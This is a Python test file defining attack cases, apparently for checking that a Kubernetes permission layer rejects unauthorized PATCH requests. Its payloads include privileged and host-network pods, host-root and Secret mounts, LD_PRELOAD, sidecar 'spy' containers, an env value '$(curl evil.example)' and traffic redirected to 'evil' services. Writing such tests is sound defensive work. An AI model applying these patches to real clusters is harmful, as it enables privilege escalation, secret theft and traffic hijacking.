"""Attempts on granted objects: other fields, other values, and fields beside an allowed one."""

from typing import Any

from tests.attack.attack import JSON_PATCH, MERGE, Attack, Object, patch
from tests.attack.object_attacks import CORE, deployment

FIELD = "other field"
VALUE = "other value"
CART = deployment()
DB = "/apis/apps/v1/namespaces/{shop}/statefulsets/db"
SERVICE = f"{CORE}/{{shop}}/services/cart"
SETTINGS = f"{CORE}/{{shop}}/configmaps/settings"
QUOTA = f"{CORE}/{{shop}}/resourcequotas/all"
HPA = "/apis/autoscaling/v2/namespaces/{shop}/horizontalpodautoscalers/cart"
BUDGET = "/apis/policy/v1/namespaces/{shop}/poddisruptionbudgets/cart"
INGRESS = "/apis/networking.k8s.io/v1/namespaces/{shop}/ingresses/shop"
POLICY = "/apis/networking.k8s.io/v1/namespaces/{shop}/networkpolicies/cart"
NODE = "/api/v1/nodes/{node}"


def template(**spec: Any) -> Object:
    """Return a patch of the pods' spec."""
    return {"spec": {"template": {"spec": spec}}}


def app(**fields: Any) -> Object:
    """Return a patch of the container that actions were granted on."""
    return template(containers=[{"name": "app", **fields}])


def _cart(name: str, body: Object, *, group: str = FIELD, smoke: bool = False) -> Attack:
    task = patch("Deployment", "cart", body)
    return Attack(group, name, "PATCH", CART, body, task=task, smoke=smoke)


def _of(kind: str, group: str, name: str, path: str, body: Any, form: str = "") -> Attack:
    plain = isinstance(body, dict)
    task = patch(kind, path.rpartition("/")[2], body) if plain and kind else None
    return Attack(group, name, "PATCH", path, body, form, task=task)


FIELDS = (
    _cart(
        "a forbidden field beside an allowed one",
        {
            "spec": {
                "minReadySeconds": 7,
                "template": {
                    "metadata": {"annotations": {"reme.dev/restarted-at": "{run}"}},
                },
            }
        },
        smoke=True,
    ),
    _cart("pause the rollout", {"spec": {"paused": True}}),
    _cart("labels of the Deployment", {"metadata": {"labels": {"team": "mine"}}}),
    _cart("an annotation of its owner", {"metadata": {"annotations": {"team": None}}}),
    _cart("a finalizer", {"metadata": {"finalizers": ["example.com/never"]}}),
    _cart(
        "an owner that the collector would follow",
        {
            "metadata": {
                "ownerReferences": [
                    {
                        "apiVersion": "v1",
                        "kind": "ConfigMap",
                        "name": "gone",
                        "uid": "00000000-0000-0000-0000-000000000000",
                    }
                ]
            }
        },
    ),
    _cart("labels of the pods", {"spec": {"template": {"metadata": {"labels": {"a": "b"}}}}}),
    _cart("another ServiceAccount", template(serviceAccountName="default")),
    _cart("host network", template(hostNetwork=True), smoke=True),
    _cart("host processes", template(hostPID=True)),
    _cart("a volume of the node", template(volumes=[{"name": "h", "hostPath": {"path": "/"}}])),
    _cart(
        "a volume with a Secret",
        template(volumes=[{"name": "s", "secret": {"secretName": "password"}}]),
    ),
    _cart("privileged", app(securityContext={"privileged": True}), smoke=True),
    _cart("a command", app(command=["sh", "-c", "id"])),
    _cart("a lifecycle hook", app(lifecycle={"postStart": {"exec": {"command": ["id"]}}})),
    _cart("another variable", app(env=[{"name": "LD_PRELOAD", "value": "/tmp/x.so"}])),
    _cart("a variable of another name", app(env=[{"name": "COLOUR", "value": "blue"}])),
    _cart(
        "a granted variable out of a Secret",
        app(
            env=[
                {
                    "name": "MODE",
                    "value": None,
                    "valueFrom": {"secretKeyRef": {"name": "password", "key": "password"}},
                }
            ]
        ),
    ),
    _cart("all variables out of a Secret", app(envFrom=[{"secretRef": {"name": "password"}}])),
    _cart("a probe that is a command", app(livenessProbe={"exec": {"command": ["id"]}})),
    _cart("take a probe away", app(readinessProbe=None)),
    _cart("another container", template(containers=[{"name": "spy", "image": "localhost/x:1"}])),
    _cart(
        "an init container",
        template(initContainers=[{"name": "spy", "image": "localhost/x:1"}]),
    ),
    _cart(
        "the image of another container",
        template(containers=[{"name": "sidecar", "image": "localhost/evil:1"}]),
    ),
    _of("Service", FIELD, "send a Service elsewhere", SERVICE, {"spec": {"type": "NodePort"}}),
    _of(
        "Service",
        FIELD,
        "catch traffic of other addresses",
        SERVICE,
        {"spec": {"externalIPs": ["192.0.2.1"]}},
    ),
    _of("ConfigMap", FIELD, "another key", SETTINGS, {"data": {"other": "changed"}}),
    _of("ConfigMap", FIELD, "seal a ConfigMap", SETTINGS, {"immutable": True}),
    _of(
        "",
        FIELD,
        "a JSON patch that moves a value to another key",
        SETTINGS,
        [{"op": "move", "from": "/data/other", "path": "/data/url"}],
        JSON_PATCH,
    ),
    _of(
        "",
        FIELD,
        "a merge patch that drops all variables",
        CART,
        {
            "spec": {
                "template": {
                    "spec": {
                        "containers": [
                            {"name": "app", "image": "localhost/cart:1"},
                            {"name": "sidecar", "image": "localhost/sidecar:1"},
                        ]
                    }
                }
            }
        },
        MERGE,
    ),
    _of("", FIELD, "the provider of a node", NODE, {"spec": {"providerID": "mine://node"}}),
    _of("", FIELD, "the labels of a node", NODE, {"metadata": {"labels": {"zone": "mine"}}}),
    _of(
        "",
        FIELD,
        "the taint of a node that was not granted",
        NODE,
        [{"op": "remove", "path": "/spec/taints/1"}],
        JSON_PATCH,
    ),
    _of("", FIELD, "open a NetworkPolicy", POLICY, {"spec": {"policyTypes": ["Egress"]}}),
    _of(
        "",
        FIELD,
        "another path of the Ingress",
        INGRESS,
        [
            {
                "op": "replace",
                "path": "/spec/rules/0/http/paths/0/backend/service/name",
                "value": "mine",
            }
        ],
        JSON_PATCH,
    ),
)
"""Attempts on fields that no action of the run writes."""

VALUES = (
    Attack(
        VALUE,
        "scale to zero",
        "PATCH",
        deployment(sub="/scale"),
        {"spec": {"replicas": 0}},
        smoke=True,
        task={
            "kubernetes.core.k8s_scale": {
                "kind": "Deployment",
                "api_version": "apps/v1",
                "name": "cart",
                "namespace": "{shop}",
                "replicas": 0,
                "wait": False,
            }
        },
    ),
    Attack(
        VALUE,
        "scale to a thousand",
        "PATCH",
        deployment(sub="/scale"),
        {"spec": {"replicas": 1000}},
        task={
            "kubernetes.core.k8s_scale": {
                "kind": "Deployment",
                "api_version": "apps/v1",
                "name": "cart",
                "namespace": "{shop}",
                "replicas": 1000,
                "wait": False,
            }
        },
    ),
    _cart("drop the memory limit", app(resources={"limits": {"memory": None}}), group=VALUE),
    _cart(
        "a memory limit far beyond the granted one",
        app(resources={"limits": {"memory": "900Gi"}}),
        group=VALUE,
        smoke=True,
    ),
    _cart(
        "a request that was not granted", app(resources={"requests": {"cpu": "90m"}}), group=VALUE
    ),
    _cart("an image of the attacker", app(image="registry.example/evil:1"), group=VALUE),
    _cart(
        "another value of the granted variable",
        app(env=[{"name": "MODE", "value": "$(curl evil.example)"}]),
        group=VALUE,
    ),
    _cart(
        "a probe that can never fail",
        app(readinessProbe={"failureThreshold": 100000, "periodSeconds": 100000}),
        group=VALUE,
    ),
    _cart(
        "a probe of another port",
        app(readinessProbe={"httpGet": {"path": "/", "port": 1}}),
        group=VALUE,
    ),
    _of(
        "Service",
        VALUE,
        "send a Service to other pods",
        SERVICE,
        {"spec": {"selector": {"app": "other"}}},
    ),
    _of(
        "Service",
        VALUE,
        "another target port",
        SERVICE,
        {"spec": {"ports": [{"port": 80, "targetPort": 22}]}},
    ),
    _of(
        "ConfigMap",
        VALUE,
        "another value of the granted key",
        SETTINGS,
        {"data": {"url": "http://evil.example"}},
    ),
    _of("", VALUE, "take the granted key away", SETTINGS, {"data": {"url": None}}, MERGE),
    _of("", VALUE, "a thousand replicas by the autoscaler", HPA, {"spec": {"maxReplicas": 1000}}),
    _of("", VALUE, "a quota without an end", QUOTA, {"spec": {"hard": {"count/pods": "9999"}}}),
    _of("", VALUE, "take the quota away", QUOTA, {"spec": {"hard": {"count/pods": None}}}, MERGE),
    _of("", VALUE, "a budget of nothing", BUDGET, {"spec": {"minAvailable": 0}}),
    _of(
        "",
        VALUE,
        "lead the granted path to another Service",
        INGRESS,
        [
            {
                "op": "replace",
                "path": "/spec/rules/0/http/paths/1/backend/service",
                "value": {"name": "evil", "port": {"number": 80}},
            }
        ],
        JSON_PATCH,
    ),
    _of(
        "",
        VALUE,
        "let other pods in than the granted ones",
        POLICY,
        [
            {
                "op": "add",
                "path": "/spec/ingress",
                "value": [
                    {
                        "from": [{"podSelector": {"matchLabels": {"app": "evil"}}}],
                        "ports": [{"protocol": "TCP", "port": 8080}],
                    }
                ],
            }
        ],
        JSON_PATCH,
    ),
    _of("", VALUE, "cordon the node", NODE, {"spec": {"unschedulable": True}}),
    _of(
        "",
        VALUE,
        "roll back to a template that never was",
        DB,
        template(containers=[{"name": "app", "image": "registry.example/evil:1"}]),
    ),
)
"""Attempts on granted fields with values that the actions do not have."""
